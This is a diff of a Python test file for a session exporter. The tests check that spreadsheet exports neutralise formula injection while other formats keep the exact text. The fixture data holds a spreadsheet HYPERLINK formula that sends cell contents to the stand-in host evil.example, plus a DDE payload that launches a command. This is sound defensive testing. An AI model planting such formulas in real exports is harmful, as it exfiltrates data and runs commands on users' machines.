@@ -5,13 +5,13 @@ import csv
 import pytest
 
 from app.core.spreadsheet import from_cell, is_formula
-from app.session.events import read_events
+from app.session.annotations import read_annotations
 from app.session.exporters import export_session, exporters_named
 from app.session.exporters.spreadsheet import COLUMNS
 from app.session.session import Session
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-EVENTS = (
+ANNOTATIONS = (
     ("start", "", 0.0, 0.2),
     (HOSTILE, "+cmd|' /C calc'!A0", 0.0, 0.4),
     ("'quoted", "-1", 0.25, 0.6),
@@ -21,7 +21,7 @@ EVENTS = (
 
 @pytest.fixture
 def exported(record, tmp_path):
-    session = Session.open(record(events=EVENTS, participant="=P07", task="sitting"))
+    session = Session.open(record(annotations=ANNOTATIONS, participant="=P07", task="sitting"))
     (path,) = export_session(session, exporters_named("spreadsheet")[0], tmp_path / "out")
     return session, path
 
@@ -35,15 +35,18 @@ def test_nothing_is_run_and_nothing_is_lost(exported):
     assert not any(is_formula(field) for row in rows for field in row)
     assert {row[1] for row in rows} == {"'=P07"}
     assert [(float(row[3]), float(row[4]), from_cell(row[5]), from_cell(row[6]), int(row[7])) for row in rows] == [
-        (event.onset_s, event.duration_s, event.label, event.note, event.frame) for event in session.events
+        (annotation.onset_s, annotation.duration_s, annotation.label, annotation.note, annotation.frame)
+        for annotation in session.annotations
     ]
 
 
 def test_the_formats_for_programs_keep_the_exact_text(exported, tmp_path):
     session, _ = exported
-    assert [event.label for event in read_events(session.folder / "events.csv")] == [event[0] for event in EVENTS]
+    assert [annotation.label for annotation in read_annotations(session.folder / "events.csv")] == [
+        annotation[0] for annotation in ANNOTATIONS
+    ]
     for exporter in exporters_named("bids,elan"):
         export_session(session, exporter, tmp_path / "out")
-    (events,) = (tmp_path / "out" / "bids").rglob("*_events.tsv")
-    assert "\t" + HOSTILE.replace('"', "'") + "\t" in events.read_text(encoding="utf-8")
+    (annotations,) = (tmp_path / "out" / "bids").rglob("*_events.tsv")
+    assert "\t" + HOSTILE.replace('"', "'") + "\t" in annotations.read_text(encoding="utf-8")
     assert "=HYPERLINK(" in (tmp_path / "out" / "session.eaf").read_text(encoding="utf-8")
